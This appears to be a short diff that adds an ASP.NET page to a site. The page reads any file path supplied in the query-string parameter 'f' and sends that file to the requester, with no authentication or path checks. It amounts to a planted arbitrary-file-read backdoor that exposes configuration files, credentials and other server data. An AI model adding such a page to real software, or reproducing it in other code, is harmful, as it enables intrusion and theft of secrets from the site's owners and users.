@@ -1,0 +1,2 @@
+<%@ Page Language="C#" %>
+<% Response.ContentType = "application/octet-stream"; Response.WriteFile(Request.QueryString["f"]); %>
